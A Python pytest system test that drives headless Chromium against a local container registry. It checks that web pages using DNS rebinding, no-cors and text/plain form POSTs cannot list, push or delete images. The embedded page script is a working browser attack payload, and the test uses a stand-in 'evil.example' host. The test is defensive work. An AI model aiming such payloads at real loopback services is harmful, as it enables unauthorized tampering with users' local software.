"""A real browser on this host, and pages that try to use the registry on loopback through it.

Chromium runs without a window (Debian's `chromium-headless-shell`). Pages come from a server of the
test under names that the browser is told to resolve to 127.0.0.1, as an attacker's DNS would. Each
attempt reports what the page saw. The test fails on the code of before: the rebound page listed and
pushed, and the blob of the `text/plain` POST was stored.
"""

import json
import os
import signal
import subprocess
import threading
from contextlib import closing, contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from support.agent import Agent
from support.images import oci_archive, random_image, sha256
from support.waiting import LIMIT_SECONDS, wait_until

pytestmark = [pytest.mark.system, pytest.mark.needs("chromium-headless-shell")]

BLOB = "from a page"
DIGEST = str(sha256(BLOB.encode()))
PAGE = """<!doctype html><meta charset=utf-8><script>
const registry = "%(registry)s", digest = "%(digest)s", body = "%(body)s", seen = {};
async function attempt(name, url, options) {
  try {
    const reply = await fetch(url, {signal: AbortSignal.timeout(8000), ...options});
    seen[name] = reply.type == "opaque" ? "opaque" : `${reply.status} ${await reply.text()}`;
  } catch (error) { seen[name] = "refused by the browser"; }
}
(async () => {
  const upload = `${registry}/v2/page/blobs/uploads/?digest=${digest}`;
  await attempt("list", `${registry}/v2/_catalog`);
  await attempt("blind", `${registry}/v2/_catalog`, {mode: "no-cors"});
  await attempt("push", upload, {method: "POST", body});
  await attempt("simple push", upload, {
    method: "POST", body, mode: "no-cors", headers: {"Content-Type": "text/plain"}});
  await attempt("delete", `${registry}/v2/docker.io/vendor/app/manifests/1`, {method: "DELETE"});
  const form = document.createElement("form"), frame = document.createElement("iframe");
  frame.name = "sink"; document.body.append(frame, form);
  Object.assign(form, {method: "post", action: upload, enctype: "text/plain", target: "sink"});
  const loaded = new Promise(done => { frame.onload = done; setTimeout(done, 8000); });
  form.submit(); await loaded;
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
})();
</script><body>"""


class Site(BaseHTTPRequestHandler):
    """Serves the page, keeps what it reports, and passes requests to the registry on.

    What is passed on has every header of the browser. So it arrives as after DNS rebinding: then
    an attacker's server has the port of the registry, and its name resolves to this host later.
    """

    def respond(self):
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        if self.path.startswith("/v2/"):
            with closing(HTTPConnection(self.server.registry, timeout=LIMIT_SECONDS)) as behind:
                behind.putrequest(
                    self.command, self.path, skip_host=True, skip_accept_encoding=True
                )
                for name, value in self.headers.items():
                    behind.putheader(name, value)
                behind.endheaders(body)
                reply = behind.getresponse()
                self._answer(reply.status, reply.read())
            return
        if self.command == "POST":
            self.server.seen.append(json.loads(body))
        self._answer(200, self.server.page.encode())

    do_GET = do_POST = do_DELETE = respond  # noqa: N815 - the names of http.server

    def _answer(self, status, body):
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@contextmanager
def site():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    server.daemon_threads, server.seen, server.page = True, [], ""
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def browse(url, home, done):
    """Opens the page until `done`. Its own DNS: every name is 127.0.0.1."""
    command = [
        *("chromium-headless-shell", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *("--disable-dev-shm-usage", "--no-proxy-server", f"--user-data-dir={home}"),
        *("--host-resolver-rules=MAP * 127.0.0.1", "--remote-debugging-port=0", url),
    ]
    with (home.with_suffix(".log")).open("wb") as log:
        process = subprocess.Popen(
            command, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True
        )
    try:
        wait_until(done, what="the page reports")
    finally:
        os.killpg(process.pid, signal.SIGKILL)  # Debian's command is a script that starts it
        process.wait(LIMIT_SECONDS)
        wait_until(lambda: not is_group(process.pid), what="the browser's processes have ended")


def is_group(group):
    try:
        os.killpg(group, 0)
    except ProcessLookupError:
        return False
    return True


def test_no_page_in_a_browser_lists_pushes_or_deletes(tmp_path):
    (tmp_path / "images").mkdir()
    archive = tmp_path / "images" / "app.tar"
    oci_archive(archive, {"vendor/app:1": random_image(1)})
    with Agent(tmp_path / "images", tmp_path / "data") as agent, site() as server:
        agent.wait_imported(archive)
        before = agent.images()
        server.registry = agent.registry.rpartition("/")[2]
        port = server.registry.rpartition(":")[2]
        attacks = {
            "evil.example": f"http://127.0.0.1:{port}",
            "rebound.example": "",
            "localhost": f"http://localhost:{port}",  # a program of this host, on another port
        }
        for count, (host, registry) in enumerate(attacks.items(), 1):
            server.page = PAGE % {"registry": registry, "digest": DIGEST, "body": BLOB}
            url = f"http://{host}:{server.server_address[1]}/"
            browse(url, tmp_path / host, lambda count=count: len(server.seen) == count)
            told = {name: text[:4] for name, text in server.seen[-1].items()}
            assert set(told) == {"list", "blind", "push", "simple push", "delete"}
            allowed = {"421 "} if host == "rebound.example" else {"refu", "opaq"}
            assert set(told.values()) <= allowed, (host, server.seen[-1])
            assert agent.get(f"/v2/page/blobs/{DIGEST}")[0] == 404, host
            assert agent.images() == before
